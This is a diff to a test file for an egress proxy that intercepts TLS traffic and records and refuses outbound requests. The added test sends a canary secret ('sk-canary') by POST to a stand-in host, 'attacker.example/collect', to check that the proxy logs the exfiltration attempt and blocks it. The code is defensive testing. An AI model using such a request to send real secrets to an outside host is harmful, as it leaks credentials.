@@ -4,6 +4,7 @@ import { request as httpRequest } from 'node:http';
 import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
 import { describe, it } from 'node:test';
 import { connect as tlsConnect } from 'node:tls';
+import { createCertificateAuthority } from '../../src/network/certificate-authority.js';
 import { looksLikeTls, readClientHello } from '../../src/network/client-hello.js';
 import { type EgressProxy, startEgressProxy } from '../../src/network/egress-proxy.js';
 import { parseSockaddr } from '../../src/network/original-destination.js';
@@ -100,6 +101,56 @@ describe('connections that ignored the proxy, redirected', () => {
       );
       assert.ok((entry?.tunnel?.bytesFromAgent ?? 0) > 0);
       assert.equal(entry?.tunnel?.bytesToAgent, 0);
+    } finally {
+      await h.close();
+    }
+  });
+
+  it('TLS under intercept: terminated with a certificate for its server name, each request inside recorded and refused', async () => {
+    const ca = createCertificateAuthority();
+    const h = await redirectedHarness({ ca });
+    try {
+      const client = tlsConnect({
+        host: '127.0.0.1',
+        port: h.port,
+        servername: 'attacker.example',
+        ca: ca.certificatePem,
+      });
+      await once(client, 'secureConnect');
+      client.write(
+        'POST /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 10\r\nConnection: close\r\n\r\nsk-canary\n',
+      );
+      let reply = '';
+      client.on('data', (chunk: Buffer) => {
+        reply += chunk.toString('utf8');
+      });
+      await closed(client);
+      assert.match(reply, /^HTTP\/1\.1 403/);
+      const [entry] = h.proxy.evidence().requests;
+      assert.deepEqual(
+        [
+          entry?.method,
+          entry?.scheme,
+          entry?.host,
+          entry?.port,
+          entry?.target,
+          entry?.bodyText,
+          entry?.intercepted,
+          entry?.disposition,
+          entry?.redirectedFrom,
+        ],
+        ['POST', 'https', 'attacker.example', 8080, '/collect', 'sk-canary\n', true, 'refused', ORIGINAL],
+      );
+      // A client that refuses the run's CA: recorded by its server name, the interception a gap.
+      const refusing = tlsConnect({ host: '127.0.0.1', port: h.port, servername: 'other.example' });
+      await once(refusing, 'error');
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      const evidence = h.proxy.evidence();
+      assert.deepEqual(
+        evidence.requests.slice(1).map((request) => [request.method, request.host, request.intercepted]),
+        [['TLS', 'other.example', false]],
+      );
+      assert.ok(evidence.coverage.gaps.some((gap) => gap.reason === 'tls_intercept_failed'));
     } finally {
       await h.close();
     }
